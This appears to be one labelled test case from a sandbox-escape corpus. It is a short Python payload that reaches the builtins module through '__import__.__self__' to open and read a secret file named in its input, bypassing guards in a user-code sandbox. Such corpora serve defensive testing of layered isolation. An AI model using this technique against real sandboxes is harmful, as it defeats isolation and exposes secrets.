# class: guards as gadgets
# technique: the module the import function is bound to
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
return [{"json": {"reached": __import__.__self__.open(host["secret"]).read()}}]
